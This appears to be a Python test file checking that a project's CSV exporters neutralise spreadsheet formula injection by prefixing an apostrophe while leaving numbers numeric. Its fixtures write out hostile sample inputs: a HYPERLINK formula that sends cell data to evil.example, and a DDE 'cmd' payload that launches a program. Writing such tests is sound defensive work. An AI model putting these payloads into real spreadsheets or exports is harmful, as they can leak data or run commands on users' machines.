"""CSV formula injection (issue 15, defect 7): every CSV writer neutralises text that a spreadsheet
would run as a formula (OWASP: a leading apostrophe), and keeps numbers numeric."""

from __future__ import annotations

import copy
import csv
import io
from pathlib import Path

import pytest
import sdmx

from ebpm.export.graph_csv import write_csv
from ebpm.export.tables import TableWriter, cell, to_csv
from ebpm.indicators.exports import write_datapackage, write_open_sdg
from ebpm.indicators.monitor import Monitor
from ebpm.indicators.sdmx_io import structure, write_sdmx_csv
from ebpm.model import Document
from ebpm.store import knowledge_base
from ebpm.store.monitoring import open_store
from tests.conftest import Invoke
from tests.web_client import client_for

SERIES = "2.2.1.ref.6"  # a percentage series of the document
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CSV = (
    "indicator_id,period,value,unit,source,note\n"
    f'{SERIES},FY2017,-3.5,%,"{FORMULA.replace(chr(34), chr(34) * 2)}","{AT}"\n'
    f"{SERIES},FY2018,16.5,%,+81 3 0000 0000,-見込み\n"
)


def rows_of(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def hostile(doc: Document, tmp_path: Path, invoke: Invoke, kb_file: Path) -> tuple[Monitor, Path]:
    """A monitoring store whose imported observations carry formulas in their source and note."""
    source = tmp_path / "hostile.csv"
    source.write_text(HOSTILE_CSV, encoding="utf-8")
    store = tmp_path / "m.sqlite"
    done = invoke("indicators", "import", str(source), "--db", str(kb_file), "--monitoring-db", str(store))
    assert done.exit_code == 0, done.output
    return Monitor(doc, open_store(store)), store


def test_cell_neutralises_text_only() -> None:
    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
        assert cell(text) == "'" + text
    assert (cell(-3.5), cell(-2), cell("-"), cell("a=b")) == ("-3.5", "-2", "'-", "a=b")
    buffer = io.StringIO()
    TableWriter(buffer, lineterminator="\n").writerows([["=cmd", -1.25, None, True]])
    assert buffer.getvalue() == "'=cmd,-1.25,,true\n"
    assert to_csv([{"name": "-x", "value": -1}]) == "name,value\r\n'-x,-1\r\n"


def test_indicators_csv_export(hostile: tuple[Monitor, Path], invoke: Invoke, kb_file: Path) -> None:
    _, store = hostile
    out = store.with_name("export.csv")
    done = invoke(
        "indicators",
        "export",
        "--format",
        "csv",
        "-o",
        str(out),
        "--db",
        str(kb_file),
        "--monitoring-db",
        str(store),
    )
    assert done.exit_code == 0, done.output
    rows = [r for r in rows_of(out, "utf-8-sig") if r["indicator_id"] == SERIES]
    first = next(r for r in rows if r["period"] == "FY2017")
    assert (first["source"], first["note"], first["value"]) == ("'" + FORMULA, "'" + AT, "-3.5")
    second = next(r for r in rows if r["period"] == "FY2018")
    assert (second["source"], second["note"]) == ("'+81 3 0000 0000", "'-見込み")


def test_datapackage(hostile: tuple[Monitor, Path], tmp_path: Path) -> None:
    from frictionless import Package

    monitor, _ = hostile
    descriptor = write_datapackage(monitor, tmp_path / "package")
    rows = [r for r in rows_of(tmp_path / "package" / "observations.csv") if r["series_id"] == SERIES]
    first = next(r for r in rows if r["period"] == "FY2017")
    assert (first["source"], first["note"], first["value"]) == ("'" + FORMULA, "'" + AT, "-3.5")
    typed = [
        r
        for r in Package(str(descriptor)).get_resource("observations").read_rows()
        if r["period"] == "FY2017"
    ]
    assert any(float(r["value"]) == -3.5 and r["note"] == "'" + AT for r in typed)  # still a number


def test_sdmx_csv(hostile: tuple[Monitor, Path], tmp_path: Path) -> None:
    monitor, _ = hostile
    path = tmp_path / "data.csv"
    write_sdmx_csv(monitor, path)
    rows = [r for r in rows_of(path) if r["INDICATOR"] == SERIES]
    first = next(r for r in rows if r["TIME_PERIOD"] == "FY2017")
    assert (first["SOURCE"], first["OBS_VALUE"]) == ("'" + FORMULA, "-3.5")
    assert all(
        not v.startswith(("=", "+", "-", "@"))
        for r in rows_of(path)
        for k, v in r.items()
        if k != "OBS_VALUE"
    )
    message = sdmx.read_sdmx(path, format="csv", structure=structure())
    assert -3.5 in [float(o.value) for ds in message.data for o in ds.obs]


def test_open_sdg_numbers_stay_numbers(hostile: tuple[Monitor, Path], tmp_path: Path) -> None:
    monitor, _ = hostile
    write_open_sdg(monitor, tmp_path / "osdg")
    files = list((tmp_path / "osdg").glob("*.csv"))
    values = [r["Value"] for f in files for r in rows_of(f)]
    assert "-3.5" in values


def test_graph_csv_export(doc: Document, tmp_path: Path) -> None:
    evil = copy.deepcopy(doc)
    evil.headings[0].title = "=1+1"
    evil.footnotes[0].text = "@cmd"
    evil.glossary[0].name_ja = "-2+3"
    write_csv(evil, tmp_path / "tables")
    headings = rows_of(tmp_path / "tables" / "headings.csv", "utf-8-sig")
    assert headings[0]["title"] == "'=1+1" and headings[0]["line"] == str(doc.headings[0].line)
    assert rows_of(tmp_path / "tables" / "footnotes.csv", "utf-8-sig")[0]["text"] == "'@cmd"
    assert rows_of(tmp_path / "tables" / "glossary.csv", "utf-8-sig")[0]["name_ja"] == "'-2+3"


def test_commitments_csv(doc: Document, tmp_path: Path, invoke: Invoke) -> None:
    evil = copy.deepcopy(doc)
    for m in evil.measures:
        for action in m.actions:
            action.text = "=" + action.text
    db = tmp_path / "evil.sqlite"
    knowledge_base.write(evil, db)
    out = invoke("commitments", "--db", str(db), "--csv")
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.stdout.lstrip("\ufeff"))))
    assert rows and all(r["text"].startswith("'=") for r in rows)
    assert all(r["line_start"].isdigit() for r in rows)


def test_budget_project_names_in_csv_downloads(
    invoke: Invoke, kb_file: Path, ingested_kb: Path, tmp_path: Path
) -> None:
    sheet = tmp_path / "projects.csv"
    sheet.write_text(
        "事業番号,年度,事業名,府省庁,部局,事業の目的,事業概要,当初予算額（百万円）,執行額（百万円）\n"
        'EVIL-1,2022,"=HYPERLINK(""http://evil.example"")",文部科学省,研究振興局,@目的,-概要,10,9\n',
        encoding="utf-8",
    )
    store = tmp_path / "m.sqlite"
    done = invoke("budget", "import", str(sheet), "--db", str(kb_file), "--monitoring-db", str(store))
    assert done.exit_code == 0, done.output
    client = client_for(ingested_kb, store)
    r = client.get("/api/budget/projects", params={"format": "csv"})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert rows[0]["name"] == '\'=HYPERLINK("http://evil.example")'
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
